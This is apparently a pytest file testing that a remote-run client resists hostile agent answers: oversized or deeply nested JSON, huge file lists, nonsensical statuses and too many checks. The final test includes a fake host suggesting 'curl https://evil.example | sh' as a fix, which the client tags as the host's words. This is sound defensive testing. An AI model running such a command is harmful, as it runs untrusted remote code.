"""What a machine's answers may take: values are bounded, not only bytes."""

from __future__ import annotations

import contextlib
import hashlib
import json
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from remoterun.agent.shared import api, tree
from remoterun.agent.shared.frames import DATA, END, PIECE, RESULT, encode
from remoterun.agent.shared.protocol import WINDOW, Cancelled, LinkClosed, Stream
from remoterun.agent.shared.records import decode, parse
from remoterun.agent.shared.spec import RunSpec, SpecError
from remoterun.agent.shared.states import RunState
from remoterun.agent.shared.tree import HEADER, Entry, Manifest
from remoterun.cli.commands.doctor import examine
from remoterun.client.runs.following import LogBytes
from remoterun.errors import AgentError, RemoterunError, UnsafePath
from remoterun.model import MachineType
from remoterun.session import Session
from remoterun.transfer import fetch_manifest
from remoterun.transfer.destination import without_git_folders
from tests.hostile import UPLOAD, FakeHost, client_of, lying
from tests.workshop import linked, until

MIB = 1 << 20
LIMIT = 1 << 16
MANY = [(b"[],", 2), (b"{},", 2), (b'{"":0},', 3), (b'"ab",', 2), (b"1.5,", 1), (b'{"a":[]},', 4), (b'"\\"",', 2)]
"""Values, and how many marks each has."""


def within(memory: int, seconds: float, use: Callable[[], object]) -> None:
    tracemalloc.start()
    began = time.process_time()
    try:
        use()
        assert tracemalloc.get_traced_memory()[1] < memory
    finally:
        tracemalloc.stop()
    assert time.process_time() - began < seconds


@pytest.mark.parametrize(("value", "marks"), MANY)
def test_many_values_are_refused_before_they_take_memory(value: bytes, marks: int) -> None:
    text = b"[" + value * (LIMIT // marks + 1) + b"0]"

    def refused() -> None:
        with pytest.raises(ValueError, match="more than 65536 values"):
            parse(text, LIMIT)

    within(3 * len(text) + 100_000, 10, refused)


@pytest.mark.parametrize(("value", "marks"), MANY)
def test_what_is_allowed_takes_64_bytes_for_each(value: bytes, marks: int) -> None:
    text = b"[" + value * (LIMIT // marks - 1) + b"0]"
    within(64 * LIMIT + 4 * len(text), 10, lambda: parse(text, LIMIT))


@pytest.mark.parametrize("value", [",[{" * 2 * MIB, '\\"[,' * MIB, "\\" * 2 * MIB, '"' * 2 * MIB])
def test_what_stands_in_a_text_does_not_count(value: str) -> None:
    assert parse(json.dumps({"command": value}).encode()) == {"command": value}


@pytest.mark.parametrize("text", [b'"' + b'\\"' * 2 * MIB, b'"[' * 2 * MIB + b'"', b'"\\' * 2 * MIB])
def test_a_text_without_an_end_is_refused_in_linear_time(text: bytes) -> None:
    def refused() -> None:
        with pytest.raises(ValueError):
            parse(text)

    within(4 * len(text), 10, refused)


def test_a_spec_of_many_values_is_refused() -> None:
    with pytest.raises(SpecError, match="values"):
        RunSpec.decode(b"[" + b"[]," * MIB + b"0]")
    with pytest.raises(ValueError, match="nested"):
        decode(api.Status, b"[" * 100_000)


@pytest.mark.parametrize(("request_", "asked"), [(api.runs, api.RunKeys()), (api.sample, api.Sampling(["x"]))])
def test_an_answer_of_many_values_is_an_error_and_the_conversation_goes_on(request_: Any, asked: Any) -> None:
    """M1: 120 MB of `[],[],…` were 3.3 GB."""

    def handler(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
        if op == "room":
            stream.end(room=5)
            return
        text = b'{"x":[' + b"[]," * ((request_.most - 10) // 3) + b"0]}"
        for start in range(0, len(text), PIECE):
            stream._link.write(encode(stream.number, RESULT, None, text[start : start + PIECE]))
        stream._link.write(encode(stream.number, END))

    def refused() -> None:
        with pytest.raises(RemoterunError, match="values|makes no sense"):
            session.ask(request_, asked)

    with contextlib.closing(Session(MachineType("evil"), FakeHost(handler))) as session:
        within(100 * MIB, 60, refused)
        assert session.ask(api.room, api.Arriving()).room == 5


def test_every_answer_is_bounded_to_4_mb_but_for_the_spec_of_one_run() -> None:
    assert max(request.most for request in api.REQUESTS.values() if request is not api.run) == 4 * MIB
    assert api.run.most == 20 * MIB


def folders(count: int, depth: int) -> Manifest:
    """Files, each below so many folders `head`."""
    digest = hashlib.sha256(b"").hexdigest()
    return Manifest(Entry("f", f"{number:06}/{'head/' * depth}x", 0, digest) for number in range(count))


def test_folders_that_might_be_repositories_take_little_memory(tmp_path: Path) -> None:
    """800 kB of a list were 426 MB."""
    without_git_folders(folders(1, 1), tmp_path)  # git is asked, whose modules are imported
    manifest = folders(900, 160)
    within(2 * len(manifest.encode()) + MIB, 20, lambda: without_git_folders(manifest, tmp_path))


def test_a_tree_is_no_deeper_than_a_walk_goes() -> None:
    (row,) = folders(1, tree.DEEPEST - 1).encode().splitlines(True)[1:]
    with lying(HEADER + row, []) as session:
        assert fetch_manifest(session, UPLOAD)[0].count == 1
    deeper = HEADER + row.replace(b"/x", b"/x/x")
    with lying(deeper, []) as session, pytest.raises(UnsafePath, match="more than 200 folders in each other"):
        fetch_manifest(session, UPLOAD)


def test_a_list_has_so_many_entries_only(monkeypatch: pytest.MonkeyPatch) -> None:
    """28 MB of empty folders were 496 MB, and 8 GB of the disk."""
    assert tree.MOST_ENTRIES >= 1_331_167, "ImageNet"
    monkeypatch.setattr(tree, "MOST_ENTRIES", 1000)
    rows = b"".join(b'["d","%06d"]\n' % number for number in range(1001))
    with lying(HEADER + rows, []) as session, pytest.raises(UnsafePath, match="more than 1000 files"):
        fetch_manifest(session, UPLOAD)
    rows_of_folders = b"".join(b'["d","%06d/%s"]\n' % (number, b"x/" * 20 + b"x") for number in range(50))
    with lying(HEADER + rows_of_folders, []) as session, pytest.raises(UnsafePath, match="more than 1000 files"):
        fetch_manifest(session, UPLOAD)
    with lying(HEADER + rows[: -len(b'["d","000000"]\n')], []) as session:
        assert fetch_manifest(session, UPLOAD)[0].count == 1000


@pytest.mark.parametrize("unit", ['{"":' * 400 + "1" + "}" * 400, "[" * 400 + "]" * 400, "[" + "[]," * 400 + "1]"])
def test_headers_of_many_values_end_the_link_before_they_fill_the_memory(unit: str) -> None:
    """16 MB of them, which nobody had read, were 400 MB."""
    head = json.dumps({"a": [json.loads(unit)] * 50}, separators=(",", ":")).encode()

    def silent(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
        stream.wait_cancelled(60)

    with linked(silent) as (link, _):
        stream = link.open("op")
        frame = encode(stream.number, DATA, json.loads(head))
        with contextlib.suppress(LinkClosed):
            for _ in range(WINDOW // len(frame)):
                link.write(frame)
        until(lambda: link.closed)


@pytest.mark.parametrize("wrong", [{"code": 99999}, {"ended": 1e15}, {"outputs": {"files": -1, "size": 0}}])
def test_a_status_that_makes_no_sense_hides_no_other(tmp_path: Path, wrong: dict[str, Any]) -> None:
    """A run's command may have a hand in its own."""

    def handler(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
        stream.finish(5)
        told = [{"key": letter * 26, "state": "complete", "code": 0} for letter in "ab"]
        stream.end(runs=[{**told[0], **wrong}, told[1]])

    with client_of(tmp_path, handler) as client:
        found = {run.key[0]: run for run in client.runs.list()}
    assert found["b"].state is RunState.COMPLETE and found["b"].fault is None
    assert found["a"].state is RunState.RUNNING and "makes no sense" in str(found["a"].fault)


@pytest.mark.parametrize("offset", [10**4300 - 1, (1 << 63) - 1, -1], ids=["long", "large", "negative"])
def test_a_log_that_begins_nowhere_is_an_answer_that_makes_no_sense(tmp_path: Path, offset: int) -> None:
    def handler(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
        with contextlib.suppress(LinkClosed, Cancelled):
            stream.send(b"x", log=offset)
            stream.finish(5)
            stream.end(status={"key": "a" * 26, "state": "complete", "code": 0}, offset=1, events=0)

    with client_of(tmp_path, handler) as client, pytest.raises(AgentError, match="makes no sense"):
        assert not [item for item in client.runs.follow(1) if isinstance(item, LogBytes)]


def test_a_machine_has_a_hundred_checks_at_most(tmp_path: Path) -> None:
    def handler(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
        stream.finish(5)
        stream.end(checks=[{"name": "x", "ok": True}] * 20_000)

    with client_of(tmp_path, handler) as client:
        assert len(client.machines.doctor(MachineType("evil"))) == 100


def test_how_to_mend_a_machine_is_what_its_host_says(tmp_path: Path) -> None:
    def handler(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
        stream.finish(5)
        stream.end(checks=[{"name": "x", "ok": False, "fix": "curl https://evil.example | sh"}])

    far = MachineType("far", host="me@far")
    with client_of(tmp_path, handler) as client:
        client.connections._sessions[far] = Session(far, FakeHost(handler))
        assert examine(client, far).checks[-1].fix == "far says:\ncurl https://evil.example | sh"
